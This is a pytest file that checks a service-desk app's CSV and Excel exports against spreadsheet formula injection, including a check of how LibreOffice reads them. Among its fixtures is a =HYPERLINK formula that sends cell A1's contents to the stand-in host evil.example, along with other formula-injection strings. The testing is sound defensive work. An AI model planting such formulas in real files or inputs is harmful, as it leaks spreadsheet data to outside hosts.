"""Text a visitor or an admin typed leaves the system as data, never as a spreadsheet formula.

OWASP's CSV-injection guidance: a cell starting with = + - @ tab or CR gets a leading apostrophe.
The files are read back with openpyxl and, as an auditor would open them, with LibreOffice.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from servicedesk.domain.cells import spreadsheet_safe, spreadsheet_unquoted
from servicedesk.domain.model import Counter, User
from servicedesk.extensions import db
from tests.integration.admin_pages import AdminPages
from tests.integration.test_reports import Office, local

COMMENT = "=40+2"
SERVICE = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
OFFICER = "@SUM(40+2)"
COUNTER = "+40+2"
DAY = {"period": "day", "date": "2026-11-03"}


@pytest.fixture
def hostile(app, office, clock):
    """One visitor served at a counter, officer and service with hostile names, who left a hostile comment."""
    office.update_service("A", name=SERVICE, name_en=SERVICE)
    with app.app_context():
        db.session.get(User, office.users["siti"]).full_name = OFFICER
        db.session.get(Counter, office.counter(1)).name = COUNTER
        db.session.commit()
    o = Office(app, office, clock)
    o.at(local(3, "08:00")).open("siti", 1)
    o.issue("T1", "A")
    o.at(local(3, "08:05")).call("siti", 1, "T1")
    o.act("siti", "start", "T1")
    o.at(local(3, "08:15")).act("siti", "finish", "T1")
    o.answer("T1", (4, 4, 4, 4, 4, 4, 4, 4, 4), COMMENT)
    return o


def csv_cells(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))


def no_formula_in(workbook_bytes: bytes) -> list:
    """Every value of every sheet, after checking none is a formula."""
    workbook = load_workbook(io.BytesIO(workbook_bytes))
    values = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                assert not (isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@"))), cell.value
                values.append(cell.value)
    return values


def test_text_that_could_be_a_formula_gets_an_apostrophe_and_numbers_stay_numbers():
    for text in ("=1+1", "+62 812", "-x", "@SUM(A1)", "\tcmd", "\rcmd", "\ncmd"):
        assert spreadsheet_safe(text) == "'" + text
        assert spreadsheet_unquoted(spreadsheet_safe(text)) == text
    assert spreadsheet_safe("Antre lama") == "Antre lama" and spreadsheet_safe("") == ""
    assert spreadsheet_safe(-5) == -5 and spreadsheet_safe(Decimal("-1.5")) == Decimal("-1.5")
    assert spreadsheet_safe(-0.5) == -0.5 and spreadsheet_safe(None) is None
    assert spreadsheet_unquoted("'quoted on purpose") == "'quoted on purpose"


def test_the_report_csv_quotes_hostile_comments_and_names(client, auth, hostile):
    auth.login("supervisor")
    comments = csv_cells(client.get("/reports/export/comments.csv", query_string=DAY))
    assert comments[1][2:] == ["'" + COUNTER, "'" + OFFICER, "'" + COMMENT]
    [_header, row, _total] = csv_cells(client.get("/reports/export/services.csv", query_string=DAY))
    assert row[1] == "'" + SERVICE and row[3] == "1"  # the count is still a plain number
    officers = csv_cells(client.get("/reports/export/officers.csv", query_string=DAY))
    assert officers[1][:2] == ["'" + OFFICER, "1"]


def test_the_report_workbook_has_no_formula_and_keeps_numbers(client, auth, hostile):
    auth.login("supervisor")
    response = client.get("/reports/export/all.xlsx", query_string=DAY)
    values = no_formula_in(response.data)
    assert {"'" + COMMENT, "'" + SERVICE, "'" + OFFICER, "'" + COUNTER} <= set(values)
    workbook = load_workbook(io.BytesIO(response.data))
    services = [row for row in workbook["services"].iter_rows(values_only=True) if row and row[0] == "A"]
    assert services[0][3] == 1  # issued, a number


def test_the_audit_csv_quotes_hostile_text(client, auth, app, office):
    pages = AdminPages(client, auth, app)
    pages.login("admin")
    pages.post("/admin/holidays", {"day": "2026-12-25", "name": "=40+2"})
    text = client.get("/admin/audit.csv").get_data(as_text=True).lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(text)))
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row), row
    [row] = [r for r in csv.DictReader(io.StringIO(text)) if r["entity"] == "holiday"]
    assert json.loads(row["after"])["name"] == "=40+2"  # kept whole, inside JSON that starts with {


def test_the_ticket_events_csv_quotes_a_hostile_counter_name(client, auth, app, hostile):
    pages = AdminPages(client, auth, app)
    pages.login("admin")
    rows = list(csv.DictReader(io.StringIO(client.get("/admin/audit.csv?source=events").get_data(as_text=True)[1:])))
    assert {r["counter"] for r in rows if r["event"] == "called"} == {"'" + COUNTER}
    assert {r["officer"] for r in rows if r["event"] == "called"} == {"siti"}  # the username


def test_the_catalogue_csv_is_quoted_and_imports_back_unchanged(app, office):
    from servicedesk.services import catalogue
    from servicedesk.web.context import unit_of_work

    office.update_service("A", name=SERVICE)
    with app.app_context():
        exported = catalogue.export_catalogue(db.session, "csv")
        assert "\"'=HYPERLINK(" in exported
        assert SERVICE in [row["name"] for _line, row in catalogue.read_rows(exported, "csv")]
        assert catalogue.import_catalogue(unit_of_work(), exported, "csv")["updated"] == []


def soffice_to_csv(source: Path, out: Path) -> str:
    """Open a file in LibreOffice headless and save its first sheet as CSV, as an auditor's office suite reads it."""
    soffice = shutil.which("soffice")
    if soffice is None:
        pytest.skip("LibreOffice (soffice) is not installed; .ci/run installs libreoffice-calc-nogui")
    subprocess.run(
        [
            soffice,
            f"-env:UserInstallation=file://{out / 'profile'}",
            "--headless",
            "--convert-to",
            "csv",
            "--outdir",
            str(out),
            str(source),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    return (out / (source.stem + ".csv")).read_text(encoding="utf-8", errors="replace")


def test_libreoffice_evaluates_no_formula_in_the_exports(client, auth, hostile, tmp_path):
    auth.login("supervisor")
    workbook = tmp_path / "comments.xlsx"
    workbook.write_bytes(client.get("/reports/export/comments.xlsx", query_string=DAY).data)
    text = soffice_to_csv(workbook, tmp_path)
    assert "'" + COMMENT in text and "'" + OFFICER in text and "'" + COUNTER in text
    assert "42" not in text
    services = tmp_path / "services.xlsx"
    services.write_bytes(client.get("/reports/export/services.xlsx", query_string=DAY).data)
    cells = [cell for row in csv.reader(io.StringIO(soffice_to_csv(services, tmp_path))) for cell in row]
    assert "'" + SERVICE in cells  # the text, not a link labelled "Klik"
    assert "Klik" not in cells
    flat = tmp_path / "flat"
    flat.mkdir()
    comments_csv = flat / "comments-export.csv"
    comments_csv.write_bytes(client.get("/reports/export/comments.csv", query_string=DAY).data)
    text = soffice_to_csv(comments_csv, tmp_path)
    assert "42" not in text and "=40+2" in text
